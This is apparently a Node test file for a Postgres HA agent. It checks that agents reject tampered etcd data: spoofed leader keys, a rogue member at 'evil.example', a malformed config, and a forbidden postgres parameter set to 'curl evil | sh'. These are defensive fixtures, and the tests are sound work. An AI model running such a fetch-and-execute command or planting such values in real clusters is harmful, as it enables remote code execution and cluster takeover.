/**
 * Scenario: values in etcd that agents must not trust (docs/ha-loop.md "What agents read from
 * etcd"). A leader key written without a lease, or naming a node without a member record, never
 * demotes the healthy primary; it is reported once per agent and the leader reclaims the key. A
 * member record pointing outside the cluster's hosts is ignored. A forbidden postgres parameter
 * raises a warning alert (once), and an unreadable /config keeps the last good copy with a
 * critical alert.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseEvents } from '../../src/state/events.js';
import { defaultDynamicConfig } from '../../src/config/schema.js';
import { bootstrappedSim } from './sim-cluster.js';

void describe('scenario: untrusted values in etcd', () => {
  void it('a lease-less leader key naming a ghost never demotes the primary; the leader reclaims the key', async () => {
    const sim = await bootstrappedSim();
    const primaryPid = sim.world.dataOf('node1')?.running;
    assert.equal(primaryPid, true);
    sim.store.put(sim.keys.leader, 'ghost');
    await sim.until('node1 holds the leader key again', () => sim.leader() === 'node1' && sim.agent('node1').memory.holdsLeader);
    for (let i = 0; i < 20; i += 1) await sim.round();
    const data = sim.world.dataOf('node1');
    assert.ok(data?.running === true && !data.inRecovery, `node1 is still a running primary\n${sim.describe()}`);
    assert.equal(sim.leader(), 'node1');
    assert.ok(sim.isStreamingFrom('node2', 'node1') && sim.isStreamingFrom('node3', 'node1'), sim.describe());
    const ignoredEvents = parseEvents(sim.store.get(sim.keys.events)).filter((e) => e.kind === 'leader-key-ignored');
    assert.ok(ignoredEvents.length >= 1 && ignoredEvents.length <= 3, `one event per agent at most, got ${ignoredEvents.length}`);
    assert.equal(parseEvents(sim.store.get(sim.keys.events)).filter((e) => e.kind === 'demoted').length, 0);
  });

  void it('a leased leader key naming a node without a member record is not believed; the leader reclaims it after one TTL', async () => {
    const sim = await bootstrappedSim();
    const lease = sim.store.grantLease(60);
    sim.store.put(sim.keys.leader, 'node9', { leaseId: lease });
    for (let i = 0; i < 5; i += 1) await sim.round();
    assert.equal(sim.leader(), 'node9', 'unconfirmed: nobody replaces it within the TTL');
    assert.ok(sim.world.dataOf('node1')?.running === true && sim.world.dataOf('node1')?.inRecovery === false, sim.describe());
    await sim.until('node1 reclaims the key', () => sim.leader() === 'node1', 100);
    assert.ok(sim.world.dataOf('node1')?.inRecovery === false, 'never demoted');
  });

  void it('a member record with an apiUrl outside the known hosts is ignored and reported', async () => {
    const sim = await bootstrappedSim();
    const fake = { ...sim.member('node2'), name: 'node7', apiUrl: 'http://evil.example:8008', host: 'evil.example' };
    sim.store.put(sim.keys.member('node7'), JSON.stringify(fake));
    await sim.round();
    await sim.round();
    assert.equal(sim.agent('node1').loop.clusterView()?.members.some((m) => m.name === 'node7'), false);
    assert.match(sim.member('node1')?.alerts?.find((a) => a.kind === 'member-ignored')?.message ?? '', /node7 .*evil\.example/);
  });

  void it('a forbidden parameter raises one warning per agent; an unreadable /config keeps the last good copy, critical', async () => {
    const sim = await bootstrappedSim();
    const config = { ...defaultDynamicConfig(), maximumLagOnFailoverBytes: 1234, postgresql: { parameters: { archive_cleanup_command: 'curl evil | sh', work_mem: '8MB' } } };
    sim.store.put(sim.keys.config, JSON.stringify(config));
    for (let i = 0; i < 5; i += 1) await sim.round();
    const alert = sim.member('node2')?.alerts?.find((a) => a.kind === 'config-rejected');
    assert.equal(alert?.severity, 'warning');
    assert.match(alert?.message ?? '', /archive_cleanup_command/);
    assert.equal(parseEvents(sim.store.get(sim.keys.events)).filter((e) => e.kind === 'config-rejected').length, 3, 'once per agent, not per tick');
    sim.store.put(sim.keys.config, '{"ttlSeconds": "not a number"');
    for (let i = 0; i < 3; i += 1) await sim.round();
    assert.equal(sim.agent('node1').loop.currentConfig().maximumLagOnFailoverBytes, 1234, 'the last good copy, not the defaults');
    assert.equal(sim.member('node1')?.alerts?.find((a) => a.kind === 'config-unreadable')?.severity, 'critical');
    assert.equal(parseEvents(sim.store.get(sim.keys.events)).filter((e) => e.kind === 'config-unreadable').length, 3);
    sim.store.put(sim.keys.config, JSON.stringify(defaultDynamicConfig()));
    await sim.round();
    await sim.round();
    assert.deepEqual(sim.member('node1')?.alerts, [], 'alerts clear once /config is valid and clean');
  });
});
